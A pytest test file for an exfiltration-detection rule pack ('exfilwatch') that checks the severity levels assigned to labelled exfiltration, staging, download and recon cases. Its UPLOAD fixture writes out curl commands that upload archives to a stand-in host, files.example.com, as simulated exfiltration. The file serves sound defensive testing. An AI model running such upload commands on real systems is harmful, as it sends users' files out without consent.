"""The public cases, one host each, and what the exfil pack has to say of them.

missing.yml lists what it does not say yet. A case that comes to hold must leave the list: the marks are strict.
"""

import dataclasses
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from exfilwatch.packaged import read_yaml

from ..cli.program import called  # noqa: TID252
from ..process_starts import Case, Started, write  # noqa: TID252 (tests are no package on the path)
from .shared import DATA, HERE, Labelled, cases

LEVELS = ("none", "informational", "low", "medium", "high", "critical")
MISSING: dict[str, list[str]] = read_yaml(Path(__file__).with_name("missing.yml").read_text("utf-8"))
UPLOAD = {
    "windows": Started(
        r"C:\Windows\System32\curl.exe",
        r"curl.exe -T C:\Users\Public\out.zip https://files.example.com/in/",
        r"C:\Windows\System32\cmd.exe",
    ),
    "linux": Started("/usr/bin/curl", "curl -T /tmp/out.tgz https://files.example.com/in/", "/usr/bin/bash"),
    "macos": Started("/usr/bin/curl", "curl -T /tmp/out.tgz https://files.example.com/in/", "/bin/bash"),
}

needs_data = pytest.mark.skipif(not HERE, reason="the shared cases are not on this machine")


def each(expected: str, *labels: str) -> "pytest.MarkDecorator":
    """One test for each case with one of the labels; those that missing.yml lists are expected to fail."""
    missing = set(MISSING[expected])
    lacks = pytest.mark.xfail(strict=True, reason="the pack does not say so yet")
    table = [
        pytest.param(known, id=known.case.host, marks=[lacks] if known.case.host in missing else [])
        for known in cases(*labels)
    ]
    absent = pytest.param(None, id="no data", marks=needs_data)
    return pytest.mark.parametrize("known", table or [absent])


@pytest.fixture(scope="module")
def level_of(tmp_path_factory: pytest.TempPathFactory) -> dict[str, int]:
    """The highest level found on each case's host, as a place in LEVELS; a case that goes on with an upload has
    `+upload` after its host's name.
    """
    known = cases("exfil", "staging", "collection", "download", "recon", "ambiguous")
    sent = (with_upload(each.case) for each in known if each.label in ("staging", "collection"))
    return highest(tmp_path_factory.mktemp("cases"), [*(each.case for each in known), *sent])


def with_upload(case: Case) -> Case:
    return dataclasses.replace(case, host=f"{case.host}+upload", starts=(*case.starts, UPLOAD[case.system]))


def highest(folder: Path, told: Iterable[Case]) -> dict[str, int]:
    """What `exfilwatch detect` says of the cases."""
    told = list(told)
    found = called("detect", write(folder / "cases.jsonl", told), "--rules", "exfil", "--output", "jsonl").lines
    levels = {case.host: 0 for case in told}
    for finding in found:
        levels[finding["host"]] = max(levels[finding["host"]], LEVELS.index(finding["rule"]["level"]))
    return levels


@each("exfil", "exfil")
def test_exfiltration_is_found_at_medium_and_on_the_own_net_one_level_lower(
    known: Labelled, level_of: dict[str, int]
) -> None:
    assert level_of[known.case.host] >= LEVELS.index("low" if known.near else "medium")


@each("quiet", "download", "recon")
def test_downloads_and_looking_around_are_never_above_low(known: Labelled, level_of: dict[str, int]) -> None:
    assert level_of[known.case.host] <= LEVELS.index("low")


@each("staging", "staging", "collection")
def test_staging_and_collection_are_found_at_low(known: Labelled, level_of: dict[str, int]) -> None:
    assert level_of[known.case.host] >= LEVELS.index("low")


@each("staging_with_upload", "staging", "collection")
def test_staging_and_collection_are_high_when_an_upload_follows(known: Labelled, level_of: dict[str, int]) -> None:
    assert level_of[f"{known.case.host}+upload"] >= LEVELS.index("high")


@needs_data
def test_the_list_of_what_is_missing_names_cases_that_exist() -> None:
    hosts = {known.case.host for known in cases("exfil", "staging", "collection", "download", "recon")}
    assert {host for listed in MISSING.values() for host in listed} <= hosts


@pytest.mark.slow
@needs_data
def test_other_attacks_and_ordinary_machines_have_two_findings_above_low_at_most() -> None:
    ended = called("detect", DATA / "background", "--rules", "exfil", "--output", "jsonl")
    loud: list[Any] = [found for found in ended.lines if LEVELS.index(found["rule"]["level"]) > LEVELS.index("low")]
    assert len(loud) <= 2, "\n".join(f"{found['rule']['title']}: {found['fields']}" for found in loud)
